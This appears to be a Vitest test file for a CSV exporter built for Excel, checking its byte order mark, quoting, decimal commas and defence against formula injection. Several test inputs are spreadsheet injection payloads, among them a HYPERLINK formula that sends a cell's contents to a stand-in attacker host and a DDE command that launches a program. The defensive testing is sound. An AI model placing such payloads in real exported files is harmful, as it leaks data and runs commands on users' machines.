import { describe, expect, test } from 'vitest'
import { csvFile } from './csv-file.ts'

describe('a CSV file for spreadsheets', () => {
  test('begins with the byte order mark by which Excel knows UTF-8, has semicolons and ends each row', () => {
    expect(
      csvFile([
        ['Farge', 'Antall'],
        ['Blåbær', 2],
      ]),
    ).toBe('\ufeff"Farge";"Antall"\r\n"Blåbær";2\r\n')
  })

  test('quotes what would end a cell or a row', () => {
    expect(csvFile([['a;b', 'say "hi"', 'two\nlines', '']])).toBe('\ufeff"a;b";"say ""hi""";"two\nlines";""\r\n')
  })

  test('numbers have decimal commas and may be negative; nothing is an empty cell', () => {
    expect(csvFile([[1299.5, -3, null, 0]])).toBe('\ufeff1299,5;-3;;0\r\n')
  })

  test.each([
    '=HYPERLINK("http://evil.example?"&A1)',
    '+47@example.com',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1)',
    '\tx',
    '\r=1',
    '  =1',
    '\u200b=1',
    '＝1+1',
  ])('%j stays text', (text) => {
    expect(csvFile([[text]])).toBe(`\ufeff"'${text.replaceAll('"', '""')}"\r\n`)
  })

  test.each(['kari@example.com', 'a=b', '1-2', 'Kari-Anne', "'quoted"])('%j is not changed', (text) => {
    expect(csvFile([[text]])).toBe(`\ufeff"${text}"\r\n`)
  })
})
